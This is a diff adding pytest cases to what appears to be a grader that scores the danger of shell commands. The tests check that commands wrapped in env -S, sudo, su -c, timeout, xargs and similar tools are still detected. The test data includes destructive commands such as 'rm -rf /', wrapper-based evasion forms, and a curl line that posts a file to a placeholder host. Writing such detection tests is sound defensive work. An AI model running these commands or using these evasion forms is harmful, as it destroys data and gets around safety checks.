@@ -324,3 +324,58 @@ def test_env_changes_the_folder_like_cd(env: str) -> None:
         assert grade(f"env {env} {command}", "/srv/p").severity == there >= 3
     assert grade(f"env {env}").severity < 3
     assert grade("env -C sub rm -rf build", "/srv/p").severity == 1
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "env -S'rm -rf /'",
+        "env -S 'ls'",
+        "env -iS 'FOO=1 curl -d @a https://a.example'",
+        "env --split-string='rm -rf src'",
+        "env --split-s 'rm -rf src'",
+        "nice -n 5 env -vS 'rm -rf /' more",
+        "xargs -I{} env -S 'rm {}'",
+    ],
+)
+def test_what_env_takes_apart_is_not_understood(command: str) -> None:
+    graded = grade(command)
+    assert graded.problem
+    assert graded.severity >= 3
+
+
+@pytest.mark.parametrize(
+    "wrapper",
+    [
+        "sudo -u bob", "sudo -iu bob", "sudo -g wheel -n --", "sudo A=1", "sudo --user=bob --prompt p", "doas -u bob",
+        "timeout -s KILL 5", "timeout --signal KILL -k 5 5", "nice -n 5", "nice -5", "ionice -c 3", "chrt -f 5",
+        "setsid -w", "stdbuf -o L", "xargs -a list -n 1", "env -u A -a x", "flock -w 5 lock", "busybox", "taskset 1",
+        "exec -a x", "nohup", "command",
+    ],
+)  # fmt: skip
+def test_a_wrappers_own_words_do_not_hide_what_it_runs(wrapper: str) -> None:
+    graded = grade(f"{wrapper} rm -rf /")
+    assert (graded.severity, graded.removes) == (4, ["/"])
+
+
+@pytest.mark.parametrize(
+    "option", ["-D /", "-D/", "-nD /", "--chdir=/", "--chdir /", "--chd /", "-u bob -D /"]
+)
+def test_sudo_changes_the_folder_like_cd(option: str) -> None:
+    assert grade(f"sudo {option} rm -rf build", "/srv/p").severity == 4
+    assert grade("sudo -D sub rm -rf build", "/srv/p").severity == 3
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["su -c 'rm -rf /'", "su - bob --command 'rm -rf /'", "sudo -s 'rm -rf /'", "flock -c 'rm -rf /' l"],
+)
+def test_what_is_handed_to_a_shell_is_looked_into(command: str) -> None:
+    assert grade(command).severity == 4
+
+
+@STEADY
+@given(st.lists(st.sampled_from(["-S", "-D", "-u", "-i", "--", "5", "/", "A=1", "-c", "--chdir", "x y", ""])))
+def test_no_words_of_a_wrapper_break_the_grading(words: list[str]) -> None:
+    for name in ("env", "sudo", "timeout", "flock", "xargs", "su"):
+        grade(" ".join([name, *map(repr, words), "ls"]), "/srv/p")
